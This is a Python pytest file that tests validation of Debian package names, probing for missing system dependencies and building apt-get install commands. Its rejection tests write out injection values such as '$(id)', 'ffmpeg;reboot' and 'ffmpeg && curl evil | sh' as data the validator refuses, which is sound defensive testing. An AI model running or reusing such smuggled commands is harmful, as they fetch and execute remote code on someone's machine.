"""System dependencies (flashpoint/environments/system.py): names, the probe, the command shown; one real check."""

from __future__ import annotations

import pytest

from flashpoint.environments import install_command, missing_system_dependencies
from flashpoint.environments.system import dpkg_installed, is_present, validate_package_name
from flashpoint.errors import InvalidEndpointError


@pytest.mark.parametrize("name", ["ffmpeg", "libsndfile1", "libgl1", "g++", "libstdc++6", "python3.11", "libc6:amd64"])
def test_debian_names_pass(name: str) -> None:
    assert validate_package_name(name) == name


@pytest.mark.parametrize(
    "name",
    ["", "a", "FFmpeg", "-y", "--allow-downgrades", "ffmpeg;reboot", "ffmpeg libgl1", "$(id)", "ff_mpeg", "ffmpeg\n"],
)
def test_anything_else_is_refused(name: str) -> None:
    with pytest.raises(InvalidEndpointError, match="not a Debian package name"):
        validate_package_name(name)


@pytest.mark.parametrize(
    ("names", "present", "missing"),
    [
        ([], set(), []),
        (["ffmpeg", "libgl1"], {"ffmpeg", "libgl1"}, []),
        (["ffmpeg", "libgl1"], {"ffmpeg"}, ["libgl1"]),
        (["libgl1", "ffmpeg", "libgl1"], set(), ["libgl1", "ffmpeg"]),  # declared order, once each
    ],
)
def test_missing_with_an_injected_probe(names: list[str], present: set[str], missing: list[str]) -> None:
    asked: list[str] = []

    def probe(name: str) -> bool:
        asked.append(name)
        return name in present

    assert missing_system_dependencies(names, probe=probe) == missing
    assert asked == list(dict.fromkeys(names))


def test_a_bad_name_is_refused_before_anything_is_probed() -> None:
    asked: list[str] = []

    def probe(name: str) -> bool:
        asked.append(name)
        return True

    with pytest.raises(InvalidEndpointError):
        missing_system_dependencies(["ffmpeg", "-o APT::Get::foo"], probe=probe)
    assert asked == []


def test_one_string_instead_of_a_list_says_so() -> None:
    with pytest.raises(InvalidEndpointError, match=r"\['ffmpeg'\]"):
        missing_system_dependencies("ffmpeg")


@pytest.mark.parametrize(
    ("dpkg", "which", "present"),
    [
        (True, None, True),  # installed per dpkg (a library: no executable)
        (False, "/usr/local/bin/ffmpeg", True),  # built from source, or no dpkg on this machine
        (False, None, False),
    ],
)
def test_the_default_probe(dpkg: bool, which: str | None, present: bool) -> None:
    assert is_present("ffmpeg", dpkg=lambda name: dpkg, which=lambda name: which) is present


def test_an_architecture_qualifier_is_not_part_of_the_executable_name() -> None:
    looked: list[str] = []

    def which(name: str) -> str | None:
        looked.append(name)
        return None

    assert not is_present("gcc:amd64", dpkg=lambda n: False, which=which)
    assert looked == ["gcc"]


@pytest.mark.parametrize(
    ("missing", "is_root", "has_apt", "command"),
    [
        (["ffmpeg"], True, True, "apt-get install -y ffmpeg"),
        (["ffmpeg", "libgl1"], False, True, "sudo apt-get install -y ffmpeg libgl1"),
        (["g++"], True, True, "apt-get install -y g++"),
        (["ffmpeg"], False, False, "no apt-get on this machine: install ffmpeg (Debian package names) with its "),
        ([], False, True, ""),
    ],
)
def test_install_command(missing: list[str], is_root: bool, has_apt: bool, command: str) -> None:
    assert install_command(missing, is_root=is_root, has_apt=has_apt).startswith(command)
    if command.startswith(("apt", "sudo")):
        assert install_command(missing, is_root=is_root, has_apt=has_apt) == command


def test_the_command_refuses_a_bad_name_too() -> None:
    with pytest.raises(InvalidEndpointError):
        install_command(["ffmpeg && curl evil | sh"], is_root=True, has_apt=True)


def test_on_this_machine() -> None:
    # real probes: sh is present (dpkg's dash/bash, or at least on PATH), a made-up name is not
    assert missing_system_dependencies(["sh", "flashpoint-no-such-pkg"]) == ["flashpoint-no-such-pkg"]
    assert dpkg_installed("flashpoint-no-such-pkg") is False
    assert install_command(["flashpoint-no-such-pkg"]).endswith("flashpoint-no-such-pkg") or "no apt-get" in (
        install_command(["flashpoint-no-such-pkg"])
    )
